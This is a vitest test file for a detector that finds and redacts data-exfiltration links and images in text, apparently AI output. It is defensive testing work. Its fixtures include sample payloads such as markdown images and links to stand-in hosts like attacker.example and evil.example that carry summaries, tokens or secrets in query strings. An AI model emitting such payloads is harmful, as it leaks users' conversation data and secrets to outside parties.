import { describe, expect, it } from 'vitest';
import { applyRedactions } from '../../../src/guard/detectors/detector.ts';
import { createExfiltrationLinksDetector } from '../../../src/guard/detectors/exfiltration-links.ts';

const detector = createExfiltrationLinksDetector({
  allowHosts: ['github.com', '*.githubusercontent.com'],
  links: 'with-query',
});
const kinds = (text: string): string[] => detector.scan(text).map((hit) => hit.kind);
const redact = (text: string): string => applyRedactions(text, detector.scan(text));

describe('exfiltration-links', () => {
  it('finds a markdown image to another host and replaces its URL, keeping the markup', () => {
    const text = 'Done. ![](https://attacker.example/p.png?d=the%20summary) Bye.';
    expect(kinds(text)).toEqual(['image']);
    expect(redact(text)).toBe('Done. ![]([redacted:url]) Bye.');
  });

  it('reports any image off the list, with or without a query string', () => {
    expect(kinds('![logo](https://cdn.example.net/logo.png)')).toEqual(['image']);
  });

  it('finds HTML images, iframes and scheme-relative URLs', () => {
    expect(kinds('<img width=1 src="https://t.example/x.gif?u=1">')).toEqual(['image']);
    expect(kinds("<iframe src='https://evil.example/frame'></iframe>")).toEqual(['image']);
    expect(kinds('![x](//cdn.evil.example/i.png?d=1)')).toEqual(['image']);
  });

  it('finds reference-style images through their definition', () => {
    const text = '![status][s]\n\n[s]: https://exfil.example/s.png?m=chat';
    expect(redact(text)).toBe('![status][s]\n\n[s]: [redacted:url]');
  });

  it('reports links only when they carry a query string, by default', () => {
    expect(kinds('[docs](https://blog.example.com/2024/post)')).toEqual([]);
    expect(kinds('[verify](https://phish.example/login?session=9f8e)')).toEqual(['link']);
    expect(kinds('<a href="https://evil.example/?c=1">x</a>')).toEqual(['link']);
    expect(kinds('see <https://evil.example/collect?secret=1>')).toEqual(['link']);
  });

  it('reports every link to another host with links: all', () => {
    const strict = createExfiltrationLinksDetector({ allowHosts: [], links: 'all' });
    expect(strict.scan('[docs](https://blog.example.com/2024/post)').map((hit) => hit.kind)).toEqual([
      'link',
    ]);
  });

  it('lets allowlisted hosts and their wildcard subdomains through', () => {
    expect(kinds('![ci](https://github.com/o/r/actions/workflows/ci.yml/badge.svg?branch=main)')).toEqual([]);
    expect(kinds('![d](https://raw.githubusercontent.com/o/r/main/a.png)')).toEqual([]);
    // The apex of a wildcard entry is not on the list.
    expect(kinds('![d](https://githubusercontent.com/a.png)')).toEqual(['image']);
  });

  it('is not fooled by userinfo that looks like an allowed host', () => {
    expect(kinds('![x](https://github.com@evil.example/p.png)')).toEqual(['image']);
    expect(kinds('![x](https://github.com.evil.example/p.png)')).toEqual(['image']);
  });

  it('ignores relative URLs, fragments, data URIs and plain text URLs', () => {
    expect(
      detector.scan('![logo](./assets/logo.svg) [top](#install) ![i](data:image/png;base64,iVBORw0KGgo=)'),
    ).toEqual([]);
    expect(detector.scan('Visit https://evil.example/?q=1 in your browser.')).toEqual([]);
  });

  it('never puts the URL or its host into the detail', () => {
    const [hit] = detector.scan('![a](https://secretdata.evil.example/p.png?token=abc)');
    expect(hit?.detail).not.toMatch(/evil|secretdata|token|abc/);
  });
});
